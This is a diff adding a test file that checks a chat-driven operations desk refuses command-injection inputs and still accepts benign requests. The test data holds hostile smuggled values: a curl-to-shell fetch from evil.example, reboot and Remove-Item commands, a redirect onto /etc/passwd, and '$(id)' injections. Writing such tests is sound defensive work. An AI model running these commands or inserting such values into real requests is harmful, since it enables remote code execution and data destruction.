@@ -1,0 +1,64 @@
+import { beforeAll, describe, expect, it } from 'vitest'
+import { Inventory } from '../inventory/inventory.ts'
+import { AccessPolicy, type Actor } from '../policy/access-policy.ts'
+import { AccountMap } from '../policy/account-map.ts'
+import { OperationCatalog } from './operation-catalog.ts'
+import { OperationsDesk } from './operations-desk.ts'
+
+/**
+ * Hostile operation requests at the desk, the one door from a chat message to a workflow: a
+ * value is taken whole or refused naming the field, never cut at a shell or PowerShell
+ * metacharacter nor swapped for a part of it.
+ */
+
+let desk: OperationsDesk
+const tom: Actor = { username: 'tom', role: 'technician' }
+
+beforeAll(async () => {
+  const inventory = await Inventory.load('tests/fixtures/operations-inventory.yaml')
+  const access = new AccessPolicy({ accounts: new AccountMap(), machines: inventory })
+  desk = new OperationsDesk({ catalog: await OperationCatalog.load(), inventory, access })
+})
+
+describe('values are taken whole or refused', () => {
+  it.each([
+    ['install vim$(curl evil.example|sh) on web01', 'vim$(curl', 'package'],
+    ['restart nginx;reboot on web01', 'nginx;reboot', 'service'],
+    ['restart nginx&&id on web01', 'nginx&&id', 'service'],
+    ['restart nginx|id on web01', 'nginx|id', 'service'],
+    ['restart nginx`id` on web01', 'nginx`id`', 'service'],
+    ['restart nginx$(id) on web01', 'nginx$(id)', 'service'],
+    ['install vim>/etc/passwd on web01', 'vim>/etc/passwd', 'package'],
+    ['install vim* on web01', 'vim*', 'package'],
+    ['stop process java;id on build01', 'java;id', 'process'],
+    ["restart W3SVC';Remove-Item C:\\ on app-win01", "W3SVC';Remove-Item", 'service'],
+    ['restart W3SVC$(Remove-Item) on app-win01', 'W3SVC$(Remove-Item)', 'service'],
+    ['check whether evil.com$(id) resolves from web01', 'evil.com$(id)', 'host'],
+    ['show errors for nginx;id from the last 24 hours on web01', 'nginx;id', 'service'],
+    ['check disk space for /var/log;id on web01', '/var/log;id', 'path'],
+    ['copy motd.txt to /etc/motd;id on web01', '/etc/motd;id', 'destination'],
+    ['restart nginx on web01$(id)', 'web01$(id)', 'machine'],
+    ['restart nginx on web-servers;id', 'web-servers;id', 'group'],
+    ['restart service "nginx; reboot" on web01', 'nginx; reboot', 'value'],
+  ])('%s: refused, naming %s as a %s', (message, whole, field) => {
+    const turn = desk.answer(message, tom)
+    expect(turn?.kind).toBe('refused')
+    expect(turn?.plan).toBeUndefined()
+    expect(turn?.reply).toContain(`"${whole}" is not a valid ${field}`)
+  })
+
+  it.each([
+    'restart nginx on web01',
+    'restart nginx; then reboot web01',
+    'restart nginx.service on web01',
+    'stop the dataprocessor service on the data processing servers (dataprocessor, sorry)',
+    "restart nginx on web01, it's stuck",
+    'install Notepad++.Notepad++ on app-win01',
+    'restart nginx on web01.',
+    'restart nginx on web01;web02',
+    'install tmxu on build01 tmux*',
+    'check disk space for C:\\Program Files on app-win01',
+  ])('%s: read as before', (message) => {
+    expect(desk.answer(message, tom)?.kind).toBe('operation')
+  })
+})
